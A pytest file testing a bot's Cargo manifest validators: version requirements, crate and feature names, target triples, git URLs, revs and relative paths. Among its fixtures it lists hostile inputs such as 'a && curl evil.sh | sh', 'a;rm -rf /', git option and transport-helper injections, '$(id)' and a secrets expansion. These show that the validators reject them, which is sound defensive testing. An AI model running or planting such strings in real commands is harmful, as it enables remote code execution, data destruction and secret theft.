"""Tests for `bot.manifest.cargo`: the cargo grammar validators."""

from __future__ import annotations

import glob
import itertools
import re
import tomllib
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from bot.manifest import cargo
from bot.manifest.cargo import (
    SHELL_UNSAFE,
    Comparator,
    Version,
    VersionReq,
    check_crate_name,
    check_feature_name,
    check_git_rev,
    check_git_url,
    check_profile_name,
    check_relative_path,
    check_target_triple,
    check_version_req,
    normalize_relative_path,
    parse_version,
    parse_version_req,
    unsafe_word_problem,
)
from tests.corpus import SERVER_CARGO_TOML

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
EXAMPLES = '"0.1", "^0.3.1", ">=0.2, <0.4", "~1", "=1.2.3" or "*"'

# Values an attacker would try in any field that reaches a command line or a workflow step.
INJECTIONS = [
    "--upload-pack=touch /tmp/x",
    "-oProxyCommand=touch /tmp/x",
    "ext::sh -c touch% /tmp/pwned",
    "$(id)",
    "`id`",
    "a;rm -rf /",
    "a && curl evil.sh | sh",
    "a\nrm -rf /",
    "a\rb",
    "a\x00b",
    "a\x7fb",
    "a\u2028b",
    "a\u202eb",
    "${{ secrets.TOKEN }}",
    "a|b",
    "a>b",
    "'a'",
    '"a"',
]


# ---------------------------------------------------------------------------------------------------
# Version requirements
# ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "canonical", "floor"),
    [
        ("0.1", "^0.1", "0.1.0"),
        ("1", "^1", "1.0.0"),
        ("^0.3.1", "^0.3.1", "0.3.1"),
        ("~1", "~1", "1.0.0"),
        ("~1.2.3", "~1.2.3", "1.2.3"),
        ("=1.2.3", "=1.2.3", "1.2.3"),
        ("= 1.2.3", "=1.2.3", "1.2.3"),
        ("*", "*", "0.0.0"),
        ("x", "*", "0.0.0"),
        ("X", "*", "0.0.0"),
        ("  *  ", "*", "0.0.0"),
        ("1.*", "1.*", "1.0.0"),
        ("1.x", "1.*", "1.0.0"),
        ("1.X", "1.*", "1.0.0"),
        ("1.*.*", "1.*", "1.0.0"),
        ("1.2.*", "1.2.*", "1.2.0"),
        ("1.2.x", "1.2.*", "1.2.0"),
        ("^1.*", "^1", "1.0.0"),
        (">=1.2.x", ">=1.2", "1.2.0"),
        (">=0.2, <0.4", ">=0.2, <0.4", "0.2.0"),
        (">= 0.2 , < 0.4", ">=0.2, <0.4", "0.2.0"),
        (">=0.2,<0.4", ">=0.2, <0.4", "0.2.0"),
        ("<0.4, >=0.2", "<0.4, >=0.2", "0.2.0"),
        ("<2", "<2", "0.0.0"),
        ("<=2.1", "<=2.1", "0.0.0"),
        (">1.2.3", ">1.2.3", "1.2.4"),
        (">1.2", ">1.2", "1.3.0"),
        (">1", ">1", "2.0.0"),
        (">1.2.3-alpha", ">1.2.3-alpha", "1.2.3-alpha.0"),
        ("=1.2.3-alpha.1", "=1.2.3-alpha.1", "1.2.3-alpha.1"),
        ("1.2.3-rc.1+build.5", "^1.2.3-rc.1", "1.2.3-rc.1"),
        ("1.2.3+build", "^1.2.3", "1.2.3"),
        ("1.2.3--", "^1.2.3--", "1.2.3--"),
        ("1.2.3-0a.01b", "^1.2.3-0a.01b", "1.2.3-0a.01b"),
        ("1.2.3+001", "^1.2.3", "1.2.3"),
        ("0.0.0", "^0.0.0", "0.0.0"),
        ("18446744073709551615", "^18446744073709551615", "18446744073709551615.0.0"),
        (">=1.0, <2.0", ">=1.0, <2.0", "1.0.0"),
        ("=0.0.0-0, <1", "=0.0.0-0, <1", "0.0.0-0"),
        ("1.*, >=1.2", "1.*, >=1.2", "1.2.0"),
    ],
)
def test_version_req_accepted(text: str, canonical: str, floor: str) -> None:
    req = parse_version_req(text)
    assert req.canonical() == canonical
    assert str(req.lower_bound()) == floor
    assert check_version_req(text) is None
    assert parse_version_req(canonical) == req


def test_version_req_structure() -> None:
    assert parse_version_req("0.1") == VersionReq((Comparator("^", 0, 1, None),))
    assert parse_version_req("*") == VersionReq(())
    assert parse_version_req("1.x").comparators == (Comparator("*", 1, None, None),)
    assert parse_version_req("1.2.*").comparators == (Comparator("*", 1, 2, None),)
    assert parse_version_req(">=1.2.3-alpha.1").comparators == (Comparator(">=", 1, 2, 3, ("alpha", 1)),)
    assert parse_version_req("~1.*").comparators == (Comparator("~", 1, None, None),)
    assert str(parse_version_req(" ^ 1.2 ")) == "^1.2"


def test_equal_requirements_have_one_canonical_text() -> None:
    spellings = [">=0.2,<0.4", ">= 0.2, < 0.4", "  >=0.2 ,<0.4  ", ">=0.2.x, <0.4.*"]
    assert {parse_version_req(s).canonical() for s in spellings} == {">=0.2, <0.4"}
    assert parse_version_req("0.1").canonical() == parse_version_req("^0.1").canonical()
    assert parse_version_req("1.*").canonical() == parse_version_req("1.x").canonical()


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("", "it is empty"),
        ("   ", "it is empty"),
        ("latest", 'it names no version; write "*" for any version'),
        ("Latest", "it names no version"),
        ("v1.2", 'drop the leading "v": write "1.2"'),
        ("V1.2.3", 'drop the leading "V": write "1.2.3"'),
        ("~=1.2", '"~=" is Python (PEP 440) syntax; Cargo writes "~1.2"'),
        ("==1.2", '"==" is not Cargo syntax; an exact version is written "=1.2"'),
        ("!=1.2", 'Cargo has no "!=" operator'),
        ("1.0.0a1", "Python-style pre/post-release markers are not semver"),
        ("1.0.0rc1", "Python-style pre/post-release markers are not semver"),
        ("1.0.0.dev1", "Python-style pre/post-release markers"),
        ("1.2.3.4", "a version has at most three numbers"),
        ("01.2", "invalid leading zero in major version number"),
        ("1.02", "invalid leading zero in minor version number"),
        ("1.2.03", "invalid leading zero in patch version number"),
        ("1.2.3-01", "invalid leading zero in pre-release identifier"),
        (">=1 <2", "expected comma after major version number, found '<'; separate comparators with a comma"),
        (">=1.2.3 <2", "expected comma after patch version number, found '<'"),
        ("1 || 2", 'Cargo has no "||" alternatives'),
        ("1.2 - 2.0", "hyphen ranges are not supported"),
        ("*, 1", "wildcard req (*) must be the only comparator in the version req"),
        ("1, *", "wildcard req (*) must be the only comparator"),
        ("x, 1", "wildcard req (x) must be the only comparator"),
        ("1, X", "wildcard req (X) must be the only comparator"),
        ("*,", "wildcard req (*) must be the only comparator"),
        ("* 1", "unexpected character after wildcard in version req"),
        ("*.*", "unexpected character after wildcard in version req"),
        ("1.*.3", "unexpected character after wildcard in version req"),
        ("1.2-alpha", "a pre-release needs a full major.minor.patch version"),
        ("1-alpha", "a pre-release needs a full major.minor.patch version"),
        ("1.2.*-alpha", "expected comma after patch version number, found '-'"),
        ("1.2.3-", "empty identifier segment in pre-release identifier"),
        ("1.2.3-a..b", "empty identifier segment in pre-release identifier"),
        ("1.2.3-a.", "empty identifier segment in pre-release identifier"),
        ("1.2.3+", "empty identifier segment in build metadata"),
        ("1.2.3-a_b", "expected comma after pre-release identifier, found '_'"),
        ("1.", "unexpected end of input while parsing minor version number"),
        ("1.2.", "unexpected end of input while parsing patch version number"),
        ("1,", "unexpected end of input while parsing major version number"),
        ("1,,2", "unexpected character ',' while parsing major version number"),
        (">", "unexpected end of input while parsing major version number"),
        ("> =1", "unexpected character '=' while parsing major version number"),
        ("=>1", "unexpected character '>' while parsing major version number"),
        ("^^1", "unexpected character '^' while parsing major version number"),
        ("a.0.0", "unexpected character 'a' while parsing major version number"),
        (">=*", "unexpected character '*' while parsing major version number"),
        ("1\t", "expected comma after major version number, found '\\t'; only plain spaces"),
        ("\t1", "unexpected character '\\t' while parsing major version number; only plain spaces"),
        ("1.2\n", "found '\\n'; only plain spaces"),
        ("1 .2", "expected comma after major version number, found '.'"),
        ("١", "unexpected character '١' while parsing major version number"),
        ("18446744073709551616", "value of major version number exceeds u64::MAX"),
        ("1.99999999999999999999999", "value of minor version number exceeds u64::MAX"),
        ("1;rm -rf /", "expected comma after major version number, found ';'"),
        ("$(id)", "unexpected character '$' while parsing major version number"),
        ("--upload-pack=x", "unexpected character '-' while parsing major version number"),
        (", ".join(["1"] * 33), "excessive number of version comparators (Cargo allows at most 32)"),
    ],
)
def test_version_req_rejected(text: str, reason: str) -> None:
    with pytest.raises(ValueError, match=re.escape(reason)) as info:
        parse_version_req(text)
    message = str(info.value)
    assert message.startswith(cargo._quote(text) + " is not a Cargo version requirement: ")
    assert message.endswith(f"; use e.g. {EXAMPLES}")
    assert check_version_req(text) == message


def test_version_req_message_format() -> None:
    assert check_version_req("latest") == (
        '"latest" is not a Cargo version requirement: it names no version; write "*" for any version, '
        f"or pin one; use e.g. {EXAMPLES}"
    )
    assert check_version_req("a\nb") is not None
    assert "\n" not in str(check_version_req("a\nb"))  # a message never carries raw control characters


def test_version_req_comparator_limit() -> None:
    assert len(parse_version_req(", ".join(["1"] * 32)).comparators) == 32
    assert check_version_req(",".join([">=1"] * 33)) is not None


def test_version_req_non_string() -> None:
    with pytest.raises(ValueError, match="a version requirement must be a string, not int"):
        parse_version_req(1)
    assert check_version_req(1) == "a version requirement must be a string, not int"


# ---------------------------------------------------------------------------------------------------
# Versions and their ordering
# ---------------------------------------------------------------------------------------------------

SPEC_ORDER = [  # semver.org §11, plus release/numeric edge cases
    "0.0.0",
    "0.9.9",
    "1.0.0-0",
    "1.0.0-2",
    "1.0.0-10",
    "1.0.0-alpha",
    "1.0.0-alpha.1",
    "1.0.0-alpha.beta",
    "1.0.0-beta",
    "1.0.0-beta.2",
    "1.0.0-beta.11",
    "1.0.0-rc.1",
    "1.0.0",
    "1.0.1",
    "1.2.0",
    "1.10.0",
    "2.0.0",
]


def test_version_precedence_follows_semver() -> None:
    versions = [parse_version(v) for v in SPEC_ORDER]
    for low, high in itertools.pairwise(versions):
        assert low < high
        assert high > low
        assert low <= high
        assert high >= low
        assert low.sort_key() < high.sort_key()
    assert sorted(reversed(versions)) == versions
    assert max(versions) == Version(2, 0, 0)


def test_version_basics() -> None:
    assert parse_version("1.2.3-alpha.1+build") == Version(1, 2, 3, ("alpha", 1))
    assert str(Version(1, 2, 3, ("rc", 1))) == "1.2.3-rc.1"
    assert str(Version(1, 2, 3)) == "1.2.3"
    assert Version(1, 0, 0, ("1",)).sort_key() == Version(1, 0, 0, (1,)).sort_key()
    assert Version(1, 0, 0) <= Version(1, 0, 0)
    with pytest.raises(TypeError):
        _ = Version(1, 0, 0) < "1.0.0"


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("", "empty string, expected a semver version"),
        ("1.2", "unexpected end of input while parsing minor version number"),
        ("1.2.3.4", "unexpected character '.' after patch version number"),
        ("v1.2.3", "unexpected character 'v' while parsing major version number"),
        (" 1.2.3", "unexpected character ' ' while parsing major version number"),
        ("1.2.3-01", "invalid leading zero in pre-release identifier"),
        ("^1.2.3", "unexpected character '^' while parsing major version number"),
    ],
)
def test_parse_version_rejected(text: str, reason: str) -> None:
    with pytest.raises(ValueError, match=re.escape(reason)):
        parse_version(text)


# ---------------------------------------------------------------------------------------------------
# Crate names
# ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "rustok-blog",
        "serde_json",
        "Inflector",
        "a",
        "a1",
        "x" * 64,
        "async",
        "type",
        "rustc",
        "driver",
        "con",
    ],
)
def test_crate_name_accepted(name: str) -> None:
    assert check_crate_name(name) is None


@pytest.mark.parametrize(
    ("name", "part"),
    [
        ("", "crate name is empty; a crate name is 1-64 ASCII letters"),
        ("x" * 65, "is 65 characters long, crates.io allows at most 64"),
        ("1abc", 'crate name "1abc" starts with a digit'),
        ("_abc", 'starts with "_"'),
        ("-abc", 'starts with "-"'),
        ("--upload-pack=x", 'starts with "-"'),
        ("a b", 'contains " " (a space)'),
        ("a.b", 'contains "."'),
        ("a::b", 'contains ":"'),
        ("ab/c", 'contains "/"'),
        ("caf\u00e9", 'contains "\u00e9" (a non-ASCII character)'),
        ("a;rm", 'contains ";" (a shell metacharacter)'),
        ("a$(id)", 'contains "$" (a shell metacharacter)'),
        ("a\nb", 'contains "\\n" (whitespace)'),
        ("a\x7fb", 'contains "\\x7f" (a control or invisible character)'),
        ("std", "is the name of a crate of Rust's standard library"),
        ("core", "standard library"),
        ("alloc", "standard library"),
        ("proc-macro", "standard library"),
        ("Proc_Macro", "standard library"),
        ("test", "standard library"),
    ],
)
def test_crate_name_rejected(name: str, part: str) -> None:
    problem = check_crate_name(name)
    assert problem is not None
    assert part in problem


@pytest.mark.parametrize("name", ["rustc", "Rustc-Driver", "macros", "unicode", "compiler-builtins"])
def test_crate_name_crates_io_reserved(name: str) -> None:
    assert check_crate_name(name) is None
    assert check_crate_name(name, crates_io=True) == (
        f'crate name "{name}" is reserved by crates.io, no such crate can be published there'
    )


def test_crate_name_non_string() -> None:
    assert check_crate_name(None) == "a crate name must be a string, not NoneType"  # type: ignore[arg-type]


# ---------------------------------------------------------------------------------------------------
# Feature names
# ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "serde",
        "mod-blog",
        "mod-social_graph",
        "c++17",
        "128bit",
        "_foo",
        "foo.bar",
        "dep:rust-embed",
        "dep:_x",
        "rustok-blog/comment-assets",
        "serde?/std",
        "serde/c++17",
    ],
)
def test_feature_accepted(name: str) -> None:
    assert check_feature_name(name) is None


@pytest.mark.parametrize(
    ("name", "part"),
    [
        ("", "feature name is empty"),
        ("-foo", 'feature "-foo" may not start with "-"'),
        ("+foo", 'may not start with "+"'),
        (".foo", 'may not start with "."'),
        ("serde/-std", 'feature "serde/-std": "-std" may not start with "-"'),
        ("dep:", 'feature "dep:" has an empty dependency name'),
        ("dep:1x", 'feature "dep:1x": "1x" is not a dependency name'),
        ("dep:a/b", 'mixes "dep:" and "/"'),
        ("a/b/c", "has more than one slash"),
        ("/std", "has an empty dependency name"),
        ("serde/", "has an empty feature name"),
        ("serde??/std", '"serde?" is not a dependency name'),
        ("foo:bar", 'contains ":" (only the "dep:" prefix may)'),
        ("foo?", 'contains "?" (a shell metacharacter)'),
        ("?foo", 'contains "?"'),
        ("a b", 'contains " " (a space)'),
        ("a\tb", 'contains "\\t" (whitespace)'),
        ("\u24b6\u24b7", "(a non-ASCII character)"),
        ("a\u00bc", 'contains "\u00bc" (a non-ASCII character)'),
        ("caf\u00e9", "cargo allows some Unicode letters, this manifest only ASCII"),
        ("$(id)", 'contains "$" (a shell metacharacter)'),
        ("a;b", 'contains ";"'),
        ("a\nb", 'contains "\\n"'),
    ],
)
def test_feature_rejected(name: str, part: str) -> None:
    problem = check_feature_name(name)
    assert problem is not None
    assert part in problem


def test_feature_plain_only_follows_cargo_dependency_rule() -> None:
    assert check_feature_name("serde", plain_only=True) is None
    slash = check_feature_name("serde/std", plain_only=True)
    assert slash is not None
    assert "cargo does not allow a dependency's features to name features of its dependencies" in slash
    dep = check_feature_name("dep:serde", plain_only=True)
    assert dep == (
        'feature "dep:serde" uses the `dep:` syntax, which cargo rejects in a dependency\'s features; '
        'write the optional dependency\'s name, "serde"'
    )


def test_feature_values_of_the_real_server_manifest() -> None:
    data = tomllib.loads(SERVER_CARGO_TOML.read_text(encoding="utf-8"))
    values = {value for values in data["features"].values() for value in values} | set(data["features"])
    assert len(values) > 50
    assert {v: check_feature_name(v) for v in values if check_feature_name(v)} == {}


# ---------------------------------------------------------------------------------------------------
# Profiles
# ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name", ["release", "dev", "debug", "test", "bench", "release-lto", "ci_fast", "_x", "1x", "Release"]
)
def test_profile_accepted(name: str) -> None:
    assert check_profile_name(name) is None


@pytest.mark.parametrize(
    ("name", "part"),
    [
        ("", "profile name is empty"),
        ("Debug", 'profile name "Debug" is reserved by cargo; write "dev" (or "debug", our alias for it)'),
        ("DEBUG", "is reserved by cargo"),
        ("doc", "deprecated in cargo and has no effect"),
        ("build", 'profile name "build" is reserved by cargo'),
        ("Check", "is reserved by cargo"),
        ("build-override", "is reserved by cargo"),
        ("rustdoc", "is reserved by cargo"),
        ("cargo", "is reserved by cargo"),
        ("cargo-fast", "is reserved by cargo"),
        ("CargoX", "is reserved by cargo"),
        ("target", "is reserved by cargo"),
        ("-x", 'starts with "-" and would be read as an option'),
        ("--release", 'starts with "-"'),
        ("a b", 'contains " " (a space)'),
        ("rel.1", 'contains "."'),
        ("rel/x", 'contains "/"'),
        ("r\u00e9", "(a non-ASCII character)"),
        ("a;b", "(a shell metacharacter)"),
    ],
)
def test_profile_rejected(name: str, part: str) -> None:
    problem = check_profile_name(name)
    assert problem is not None
    assert part in problem


# ---------------------------------------------------------------------------------------------------
# Target triples
# ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "x86_64-unknown-linux-gnu",
        "x86_64-unknown-linux-musl",
        "aarch64-apple-darwin",
        "aarch64-unknown-linux-gnu",
        "wasm32-unknown-unknown",
        "wasm32-wasip1-threads",
        "wasm32v1-none",
        "x86_64-pc-windows-msvc",
        "i686-pc-windows-gnu",
        "thumbv7em-none-eabihf",
        "thumbv8m.main-none-eabi",
        "armv7-unknown-linux-gnueabihf",
        "arm-unknown-linux-gnueabi",
        "riscv64gc-unknown-linux-gnu",
        "riscv32imac-unknown-none-elf",
        "powerpc64le-unknown-linux-gnu",
        "s390x-unknown-linux-gnu",
        "mips64el-unknown-linux-gnuabi64",
        "loongarch64-unknown-linux-gnu",
        "x86_64h-apple-darwin",
        "arm64ec-pc-windows-msvc",
        "aarch64-apple-ios-macabi",
    ],
)
def test_target_accepted(name: str) -> None:
    assert check_target_triple(name) is None


@pytest.mark.parametrize(
    ("name", "part"),
    [
        ("", "target triple is empty"),
        ("x86_64", "has 1 component(s), a triple has 2 to 5"),
        ("a-b-c-d-e-f", "has 6 component(s)"),
        ("X86_64-unknown-linux-gnu", 'must be lowercase: "x86_64-unknown-linux-gnu"'),
        ("x86_64-unknown linux", 'contains " " (a space)'),
        ("-x86_64-unknown-linux-gnu", 'starts with "-" and would be read as an option'),
        ("--target=evil", 'starts with "-"'),
        ("x86_64..-linux", 'contains ".."'),
        ("x86_64-.linux", 'has a component starting or ending with "."'),
        ("x86_64--linux", "has an empty component"),
        ("x86_64-linux-", "has an empty component"),
        ("linux-x86_64", 'does not start with a known architecture ("linux")'),
        ("my-target.json", "custom target specification files are not supported"),
        ("targets/my-target", "looks like a path"),
        ("..\\x", "looks like a path"),
        ("x86_64-unknown-linux-gnu;id", 'contains ";" (a shell metacharacter)'),
        ("x86_64-\u00fcnknown-linux", "(a non-ASCII character)"),
        ("x86_64-unknown-linux-gnu\n", 'contains "\\n" (whitespace)'),
        ("x" * 70 + "-linux", "characters long (at most 64)"),
    ],
)
def test_target_rejected(name: str, part: str) -> None:
    problem = check_target_triple(name)
    assert problem is not None
    assert part in problem


# ---------------------------------------------------------------------------------------------------
# Git URLs
# ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "https://github.com/org/repo.git",
        "https://github.com/org/repo",
        "https://gitlab.example.com:8443/group/sub/repo.git",
        "https://git.sr.ht/~user/repo",
        "https://[::1]/repo.git",
        "https://192.168.1.10/repo.git",
        "https://host/a%2Fb",
        "https://github.com/org/repo.git?ref=main",
        "ssh://git@github.com/org/repo.git",
        "ssh://git@github.com:2222/org/repo.git",
        "ssh://github.com/org/repo.git",
        "git://example.org/repo.git",
        "git@github.com:org/repo.git",
        "github.com:org/repo.git",
        "deploy.bot@git.example.com:srv/repo.git",
    ],
)
def test_git_url_accepted(url: str) -> None:
    assert check_git_url(url) is None


@pytest.mark.parametrize(
    ("url", "part"),
    [
        ("", "git URL is empty"),
        ("http://github.com/org/repo", "uses plain http, which has no integrity protection"),
        ("http://github.com/org/repo", 'use "https://github.com/org/repo"'),
        ("file:///srv/repo.git", "points at a local repository"),
        ("ftp://example.org/repo.git", 'has unsupported scheme "ftp"'),
        ("git+ssh://example.org/repo.git", 'unsupported scheme "git+ssh"'),
        ("HTTPS://github.com/org/repo", 'write the scheme in lowercase, "https://"'),
        ("ext::sh -c touch% /tmp/pwned", "transport-helper syntax"),
        ("ext::ssh -oProxyCommand=x host", "transport-helper syntax"),
        ("fd::17", "transport-helper syntax"),
        ("https://host/x::y", "transport-helper syntax"),
        ("--upload-pack=touch /tmp/x", 'starts with "-" and would be read as an option'),
        ("-oProxyCommand=touch%20/tmp/x", 'starts with "-"'),
        ("https://user:ghp_token@github.com/org/repo", "contains credentials (user:password)"),
        (
            "https://ghp_token@github.com/org/repo",
            "contains a user name, which for https is often an access token",
        ),
        ("https://ghp_token@github.com/org/repo", 'drop "ghp_token@"'),
        ("git://user@example.org/repo", "contains a user name"),
        ("ssh://git:secret@github.com/org/repo", "contains credentials"),
        ("ssh://-oProxyCommand=x@host/repo", 'has an invalid user "-oProxyCommand=x"'),
        ("https://-oProxyCommand=x/repo", 'has an invalid host "-oProxyCommand=x"'),
        ("https:///repo", "has no host"),
        ("https://bad_host.com/repo", "has an invalid host"),
        ("https://host:0/repo", 'has an invalid port "0"'),
        ("https://host:99999/repo", 'has an invalid port "99999"'),
        ("https://host:x/repo", "has an invalid port"),
        ("https://github.com", "names no repository path"),
        ("https://github.com/", "names no repository path"),
        ("https://github.com/org/$(id)", 'has "$" (a shell metacharacter) in its path'),
        ("https://github.com/org/`id`", 'has "`" (a shell metacharacter) in its path'),
        ("https://github.com/org/repo;id", 'has ";" (a shell metacharacter) in its path'),
        ("https://github.com/org/repo%zz", 'has "%" in its path'),
        ("https://github.com/org/repo?a=1&b=2", 'has "&" (a shell metacharacter) in its query'),
        ("https://github.com/org/repo#$(id)", 'has "$" (a shell metacharacter) in its fragment'),
        ("https://github.com/org/repo;rm -rf /", 'contains " " (a space)'),
        ("https://github.com/org/repo\nrm -rf /", 'contains "\\n" (whitespace)'),
        ("https://github.com/org/re\u202epo", "(a control or invisible character)"),
        ("https://github.com/org/repo\x00", "(a control or invisible character)"),
        ("https://github.com/org/r\u00e9po", 'has "\u00e9" (a non-ASCII character) in its path'),
        ("/srv/git/repo.git", "is not a remote git URL (local paths are not allowed)"),
        ("../repo", "is not a remote git URL"),
        ("repo", "is not a remote git URL"),
        ("c:repo", "looks like a Windows drive path"),
        ("git@github.com:-repo", 'has a path starting with "-"'),
        ("git@github.com:", "names no repository path"),
        ("-x@github.com:org/repo", 'starts with "-"'),
        ("g$t@github.com:org/repo", 'has an invalid user "g$t"'),
        ("git@bad_host:org/repo", 'has an invalid host "bad_host"'),
        ("https://github.com/" + "a" * 2100, "characters long (at most 2048)"),
    ],
)
def test_git_url_rejected(url: str, part: str) -> None:
    problem = check_git_url(url)
    assert problem is not None
    assert part in problem


def test_git_url_scp_like_can_be_refused_for_cargo() -> None:
    assert check_git_url("git@github.com:org/repo.git", allow_scp_like=False) == (
        'cargo does not understand the scp-like git address "git@github.com:org/repo.git" (cargo#1851); '
        'write it as a URL: "ssh://git@github.com/org/repo.git"'
    )
    assert check_git_url("ssh://git@github.com/org/repo.git", allow_scp_like=False) is None
    assert check_git_url("https://github.com/org/repo", allow_scp_like=False) is None


# ---------------------------------------------------------------------------------------------------
# Git revs
# ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "rev",
    [
        "abc1234",
        "0123456789abcdef0123456789abcdef01234567",
        "a" * 64,
        "ABCDEF0",
        "main",
        "HEAD",
        "v1.2.3",
        "v1.0.0-rc.1",
        "v1.0.0+build.5",
        "release/2024-06",
        "refs/tags/v1",
        "feature/x_y",
        "user@host",
        "a.b",
    ],
)
def test_git_rev_accepted(rev: str) -> None:
    assert check_git_rev(rev) is None


@pytest.mark.parametrize(
    ("rev", "part"),
    [
        ("", "git rev is empty"),
        ("-x", 'starts with "-" and would be read as an option'),
        ("--upload-pack=touch /tmp/x", 'starts with "-"'),
        ("a..b", 'contains ".." (see git check-ref-format)'),
        ("a@{1}", 'contains "{" (a shell metacharacter)'),
        ("@", 'is "@", which git does not allow as a ref name'),
        ("/main", 'has a leading, trailing or doubled "/"'),
        ("main/", 'has a leading, trailing or doubled "/"'),
        ("a//b", 'has a leading, trailing or doubled "/"'),
        ("main.", 'ends with "."'),
        (".hidden", 'has a component starting with "." (".hidden")'),
        ("a/.b", 'has a component starting with "."'),
        ("main.lock", 'has a component ending with ".lock"'),
        ("a/b.lock/c", 'has a component ending with ".lock" ("b.lock")'),
        ("a b", 'contains " " (a space) (git check-ref-format forbids it)'),
        ("a~1", 'contains "~" (a shell metacharacter) (git check-ref-format forbids it)'),
        ("a^", 'contains "^" (git check-ref-format forbids it)'),
        ("a:b", 'contains ":" (git check-ref-format forbids it)'),
        ("a?", 'contains "?"'),
        ("a*", 'contains "*"'),
        ("a[", 'contains "["'),
        ("a\\b", 'contains "\\\\"'),
        ("$(id)", 'contains "$" (a shell metacharacter)'),
        ("a;b", 'contains ";"'),
        ("a|b", 'contains "|"'),
        ("a&b", 'contains "&"'),
        ("a<b", 'contains "<"'),
        ("a>b", 'contains ">"'),
        ("a(b)", 'contains "("'),
        ("a'b", 'contains "\'"'),
        ('a"b', 'contains "\\""'),
        ("a`b", 'contains "`"'),
        ("a#b", 'contains "#"'),
        ("a\nb", 'contains "\\n" (whitespace) (git check-ref-format forbids it)'),
        ("a\x7fb", "(a control or invisible character) (git check-ref-format forbids it)"),
        ("\u00e9t\u00e9", "(a non-ASCII character)"),
        ("a" * 256, "characters long (at most 255)"),
    ],
)
def test_git_rev_rejected(rev: str, part: str) -> None:
    problem = check_git_rev(rev)
    assert problem is not None
    assert part in problem


# ---------------------------------------------------------------------------------------------------
# Relative paths
# ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "manifest_dir", "normalized"),
    [
        ("crates/x", "", "crates/x"),
        ("./crates/x/", "", "crates/x"),
        ("crates//x/.", "", "crates/x"),
        ("crates/a/../x", "", "crates/x"),
        (".", "", "."),
        ("x/..", "", "."),
        ("..", "apps/server", "apps"),
        ("../../crates/x", "apps/server", "crates/x"),
        ("../crates/x", "apps/server/", "apps/crates/x"),
        ("crates/x", ".", "crates/x"),
        ("crates/x", "./deploy", "deploy/crates/x"),
        ("crates/rustok-page_builder+v2@1,x=y", "", "crates/rustok-page_builder+v2@1,x=y"),
    ],
)
def test_relative_path_accepted(path: str, manifest_dir: str, normalized: str) -> None:
    assert check_relative_path(path, manifest_dir=manifest_dir) is None
    assert normalize_relative_path(path, manifest_dir) == normalized


def test_normalized_paths_hash_equal() -> None:
    assert normalize_relative_path("./crates/x/") == normalize_relative_path("crates/x")


@pytest.mark.parametrize(
    ("path", "manifest_dir", "part"),
    [
        ("", "", "path is empty"),
        ("../x", "", 'path "../x" points outside the repository;'),
        ("..", "", "points outside the repository"),
        ("crates/../../x", "", "points outside the repository"),
        ("../../../x", "apps/server", 'points outside the repository (the manifest is in "apps/server")'),
        ("/etc/passwd", "", 'path "/etc/passwd" is absolute'),
        ("//server/share", "", "is absolute"),
        ("C:\\x", "", "is an absolute Windows path"),
        ("C:x", "", "is an absolute Windows path"),
        ("c:/x", "", "is an absolute Windows path"),
        ("\\\\server\\share", "", "is an absolute Windows path"),
        ("crates\\x", "", "contains a backslash; separate folders with"),
        ("~/x", "", 'contains "~" (home-folder expansion)'),
        ("~root/x", "", "home-folder expansion"),
        ("-x", "", 'starts with "-" and would be read as an option'),
        ("--manifest-path=/etc", "", 'starts with "-"'),
        ("crates/my crate", "", 'contains " " (a space)'),
        ("a\x00b", "", 'contains "\\0" (a control or invisible character)'),
        ("a\nb", "", 'contains "\\n" (whitespace)'),
        ("crates/\u00e9", "", "(a non-ASCII character)"),
        ("$(id)", "", 'contains "$" (a shell metacharacter)'),
        ("a;rm -rf /", "", 'contains ";" (a shell metacharacter)'),
        ("ab:c", "", 'contains ":"'),
        ("a:b", "", "is an absolute Windows path"),
        ("crates/*", "", 'contains "*"'),
    ],
)
def test_relative_path_rejected(path: str, manifest_dir: str, part: str) -> None:
    problem = check_relative_path(path, manifest_dir=manifest_dir)
    assert problem is not None
    assert part in problem
    if "points outside the repository" not in problem:
        with pytest.raises(ValueError, match=re.escape(problem)):
            normalize_relative_path(path, manifest_dir)


@pytest.mark.parametrize(
    ("path", "manifest_dir", "normalized"),
    [("../modules/x", "", "../modules/x"), ("./../x/", "", "../x"), ("../../x", "a", "../x")],
)
def test_normalize_does_not_judge_escapes(path: str, manifest_dir: str, normalized: str) -> None:
    # Hashing normalises the path as written, relative to the manifest; escaping is for the checker.
    assert normalize_relative_path(path, manifest_dir) == normalized


@pytest.mark.parametrize(
    ("manifest_dir", "part"), [("..", "is outside the repository"), ("/abs", "is absolute"), ("a b", "space")]
)
def test_bad_manifest_dir_is_a_caller_error(manifest_dir: str, part: str) -> None:
    with pytest.raises(ValueError, match=re.escape(part)):
        check_relative_path("crates/x", manifest_dir=manifest_dir)


def test_real_manifests_pass() -> None:
    files = sorted(glob.glob(str(FIXTURES / "rustok-history" / "*.toml")))
    assert files
    problems = []
    for file in files:
        data = tomllib.loads(Path(file).read_text(encoding="utf-8"))
        problems.append(check_profile_name(data["build"]["profile"]))
        problems.append(check_target_triple(data["build"]["target"]))
        problems.append(check_crate_name(data["app"]))
        for spec in data["modules"].values():
            problems.append(check_crate_name(spec["crate"]))
            problems.append(check_relative_path(spec["path"]))
            problems.append(unsafe_word_problem(spec["path"]))
    assert set(problems) == {None}


# ---------------------------------------------------------------------------------------------------
# Shell words
# ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value", ["rustok-blog", "crates/x", "^1.2", "1.2.3", "a=b", "user@host", "50%", "caf\u00e9", "x86_64"]
)
def test_safe_word_accepted(value: str) -> None:
    assert unsafe_word_problem(value) is None


@pytest.mark.parametrize(
    ("value", "part"),
    [
        ("", "the value is empty"),
        ("-x", '"-x" starts with "-" and would be read as a command-line option'),
        ("--upload-pack=touch /tmp/x", "would be read as a command-line option"),
        ("a b", 'contains " " (a space), which is unsafe in a command line'),
